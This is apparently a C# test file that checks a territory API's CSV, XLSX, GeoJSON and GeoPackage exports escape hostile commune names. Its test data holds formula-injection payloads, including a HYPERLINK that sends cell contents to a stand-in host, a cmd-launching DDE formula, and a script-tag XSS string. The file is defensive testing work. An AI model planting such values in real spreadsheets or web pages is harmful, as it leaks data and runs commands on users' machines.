using Ctg.Geo.Store;
using Ctg.Geo.Testing;
using Ctg.Geo.Testing.Exports;

namespace Ctg.Geo.Api.Tests.Exports;

/// <summary>Names that a spreadsheet would run, that end a line early, or that no XML can hold: files say them and do nothing.</summary>
public sealed class HostileNameTests(HostileNameTests.Named api) : IClassFixture<HostileNameTests.Named>
{
    const string Export = "/api/territories/" + HandmadeTerritory.Id + "/export.";

    static readonly (string Code, string Name)[] Names =
    [
        ("21901", "=HYPERLINK(\"http://mal.example?\"&A1;\"ici\")"),
        ("21902", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("21903", "-2+3;\"citation\",\r\nseconde ligne"),
        ("21904", "+Dorne\u0001</t><script>alert(1)</script>"),
    ];

    public sealed class Named : ApiUnderTest
    {
        protected override async Task LoadAsync(GeoDatabase db)
        {
            await base.LoadAsync(db);
            foreach (var (code, name) in Names)
            {
                await using var command = db.Owner.CreateCommand("update geo.commune set name = $2 where code = $1");
                command.Parameters.Add(new() { Value = code });
                command.Parameters.Add(new() { Value = name });
                await command.ExecuteNonQueryAsync();
            }
            await using var secteur = db.Owner.CreateCommand("update geo.secteur set name = '=1+1' where id = 'ouest'");
            await secteur.ExecuteNonQueryAsync();
        }
    }

    [Theory]
    [InlineData("fr", ';')]
    [InlineData("en", ',')]
    public async Task Csv_holds_them_as_texts_that_no_spreadsheet_runs(string dialect, char separator)
    {
        var cells = ReadFiles.CsvCells(await api.Http.GetByteArrayAsync($"{Export}csv?service=eaje&dialect={dialect}"), separator);
        Assert.Equal(8, cells.Count);
        Assert.All(cells, line => Assert.Equal(cells[0].Length, line.Length));
        Assert.Equal(Names.Select(one => "'" + one.Name), cells[1..5].Select(line => line[2]));
        Assert.Equal(["'=1+1", "'=1+1"], cells[1..3].Select(line => line[3]));
        Assert.Equal("'=1+1", cells[5][2]);
        Assert.DoesNotContain(cells.SelectMany(line => line), cell => cell is ['=' or '@' or '+', ..]);
    }

    [Fact]
    public void Negative_numbers_stay_numbers()
    {
        // Only the text of a name is made inert: figures are written without an apostrophe, whatever their sign.
        var dialect = Api.Exports.CsvDialect.English;
        Assert.Equal("-1.5", dialect.Number(-1.5));
        Assert.Equal("-1,5", Api.Exports.CsvDialect.French.Number(-1.5));
        Assert.Equal("'-1.5", dialect.Text("-1.5"));
        Assert.Equal("'\t=1", dialect.Text("\t=1"));
        Assert.Equal("'＝1", dialect.Text("＝1"));
        Assert.Equal("\"'\r=1\"", dialect.Text("\r=1"));
    }

    [Fact]
    public async Task A_workbook_holds_them_as_texts()
    {
        var rows = ReadFiles.Sheet(await api.Http.GetByteArrayAsync($"{Export}xlsx?service=eaje"), "Données").ToList();       // fails on any formula
        // XML has no way to write U+0001, and reads a line end as one character.
        Assert.Equal(Names.Select(one => Plain(one.Name)), rows[1..5].Select(row => Plain(row[2])));
    }

    [Fact]
    public async Task Geojson_and_geopackage_hold_them_as_they_are()
    {
        var json = ReadFiles.GeoJson(await api.Json($"{Export}geojson?service=eaje"));
        Assert.Equal(Names.Select(one => one.Name), json.Take(4).Select(line => line.Name));
        var package = ReadFiles.GeoJson(await ReadFiles.GeoPackageAsync(await api.Http.GetByteArrayAsync($"{Export}gpkg?service=eaje")));
        Assert.Equal(Names.Select(one => Plain(one.Name)), package.Take(4).Select(line => Plain(line.Name)));
    }

    static string Plain(string name) => name.Replace("\u0001", "", StringComparison.Ordinal).Replace("\r\n", "\n", StringComparison.Ordinal);
}
